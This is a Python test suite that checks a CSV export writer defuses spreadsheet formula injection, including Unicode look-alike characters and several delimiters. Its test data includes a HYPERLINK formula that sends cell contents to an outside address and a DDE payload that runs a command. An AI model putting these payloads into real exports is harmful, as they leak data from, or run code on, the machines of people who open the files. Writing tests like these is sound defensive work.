"""No cell of an export is evaluated by a spreadsheet, for any delimiter; there is one CSV writer only."""

from __future__ import annotations

import ast
import csv
import io
import re
import unicodedata
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inkgate import service
from inkgate.service.csv_export import CsvWriter, csv_cell

SERVICE = Path(service.__file__).parent
PARTS = st.sampled_from(
    [
        *"=+-@＝＋－＠﹣⁼−;,\t\r\n\"' 1aé",
        "\u200b",
        "\ufeff",
        "\u3000",
        "\xa0",
        "\u202e",
        "“",
        "=1+1",
        'HYPERLINK("http://x")',
    ]
)
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def written(*rows: list[object]) -> str:
    out = io.StringIO(newline="")
    sheet = CsvWriter(out)
    for row in rows:
        sheet.row(row)
    return out.getvalue()


def formula(text: str) -> bool:
    """Whether a spreadsheet might evaluate it, by Unicode's tables instead of the writer's list."""
    if NUMBER.fullmatch(text):
        return False
    for character in text:
        if unicodedata.normalize("NFKC", character)[:1] in tuple("=+-@\u2212"):
            return True
        ignored = unicodedata.category(character) in ("Cc", "Cf", "Zs", "Zl", "Zp", "Pi", "Pf")
        if character == "'" or (not ignored and character not in '"`´＂＇'):
            return False
    return False


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '"=1',
        "＝1",
        "＋1",
        "－1",
        "＠A1",
        "\u3000=1",
        "\xa0=1",
        "\u200b=1",
        "\ufeff=1",
        "\u202e=1",
        "“=1",
        "\x00=1",
        "\x0b=1",
        "-",
        "=",
        "+",
        "@",
        "−1",
        "\ttext",
        "\rtext",
        "=cmd|' /C calc'!A0",
        "'=1",
    ],
)
def test_a_formula_becomes_text(text: str) -> None:
    assert csv_cell(text) == "'" + text.replace("\t=", "\t'=").replace("\r=", "\r'=").replace("\n=", "\n'=").replace(
        "\x0b=", "\x0b'="
    )
    (row,) = csv.reader(io.StringIO(written([text]), newline=""))
    assert row[0].startswith("'")


@pytest.mark.parametrize(
    "text",
    ["", "0", "-5", "+1.5", "-1e-6", "1,350.00", "their-own-id", "a=b", "x@y.example", "4f-2", "青禾", "2026-03-01"],
)
def test_other_text_is_not_changed(text: str) -> None:
    assert csv_cell(text) == text


def test_values_keep_their_kind() -> None:
    row = [None, -3, True, -0.5, Decimal("-450.00"), datetime(2026, 3, 1, tzinfo=UTC), float("-inf"), {"a": 1}]
    assert written(row) == ",-3,True,-0.5,-450.00,2026-03-01T00:00:00+00:00,'-inf,{'a': 1}\r\n"


@given(st.lists(st.lists(PARTS, max_size=8).map("".join), min_size=1, max_size=4))
def test_no_formula_for_any_delimiter(texts: list[str]) -> None:
    sheet = written(list(texts))
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(sheet, newline=""), delimiter=delimiter):
            assert not [each for each in row if formula(each)]


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\0")), min_size=1, max_size=4))
def test_a_csv_reader_returns_the_cells(texts: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(written(list(texts)), newline=""))
    assert row == [str(csv_cell(each)) for each in texts]


def test_there_is_no_other_writer_of_csv() -> None:
    found = []
    for path in SERVICE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and (isinstance(node.value, ast.Name) and node.value.id == "csv")
            ):
                found.append(path.relative_to(SERVICE).as_posix())
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                found.append(path.relative_to(SERVICE).as_posix())
    assert found == ["csv_export.py"]
